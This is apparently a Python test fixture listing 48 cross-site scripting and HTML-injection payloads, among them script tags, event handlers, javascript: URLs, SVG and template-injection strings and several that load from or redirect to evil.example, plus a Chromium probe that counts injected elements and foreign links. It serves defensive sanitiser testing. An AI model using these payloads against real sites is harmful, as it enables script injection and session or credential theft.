"""What a hostile note could hold: 48 texts that run, load or lead away where something takes them for markup."""

from __future__ import annotations

__all__ = ["PAYLOADS", "what_got_in"]

PAYLOADS = (
    "<script>hit=1</script>",
    "</script><script>hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>hit=1</scr</script>ipt>",
    "<script/x>hit=1</script>",
    "<script\n>hit=1</script\n>",
    "<img src=x onerror=hit=1>",
    "<img/src=x/onerror=hit=1>",
    "<IMG SRC=javascript:hit=1>",
    '"><img src=x onerror=hit=1>',
    "'><img src=x onerror='hit=1'>",
    "`><img src=x onerror=`hit=1`>",
    "--><img src=x onerror=hit=1>",
    "]]><img src=x onerror=hit=1>",
    "</title><img src=x onerror=hit=1>",
    "</style><img src=x onerror=hit=1>",
    "</textarea><img src=x onerror=hit=1>",
    "</span></article></main><img src=x onerror=hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
    "<svg onload=hit=1>",
    "<svg><script>hit=1</script></svg>",
    "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit=1><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit=1>",
    "<body onload=hit=1>",
    "<iframe src=javascript:hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=javascript:hit=1></object>",
    "<embed src=javascript:hit=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>go</button></form>",
    "<a href=javascript:hit=1>here</a>",
    "<a href=//evil.example/>here</a>",
    "<details open ontoggle=hit=1>",
    "<video><source onerror=hit=1></video>",
    "<input autofocus onfocus=hit=1>",
    '" autofocus onfocus="hit=1',
    "' onmouseover='hit=1",
    "x onclick=hit=1 tabindex=0",
    "javascript:hit=1",
    "data:text/html,<script>hit=1</script>",
    "{{7*7}}{% include 'page.html' %}{# x #}",
    "${hit=1}",
    "{{constructor.constructor('hit=1')()}}",
    "&lt;script&gt;hit=1&lt;/script&gt;",
    "<style>@import '//evil.example/x.css';</style>",
)

what_got_in = """() => {
  const nodes = [...document.querySelectorAll("*")].filter((node) => node !== document.documentElement);
  const leads = (node) => node.getAttribute("href") ?? node.getAttribute("src") ?? node.getAttribute("action") ?? "";
  const runs = (node) => [...node.attributes].some((one) => /^on|^srcdoc$|^style$/.test(one.name));
  const own = ["ask", "find", "seek-form"];
  const strange = /^(iframe|object|embed|img|base|form|video|math|audio)$/;
  return {
    hit: window.hit ?? null,
    handlers: nodes.filter(runs).length,
    scripts: nodes.filter((node) => node.localName === "script").length,
    strangers: nodes.filter((node) => strange.test(node.localName) && !own.includes(node.id)).length,
    links: nodes.map(leads).filter((link) => link && !/^(#|report|page\\.|note\\.)/.test(link)),
  };
}"""
"""What a page holds that is none of its own, for Chromium: its own forms and links are known."""
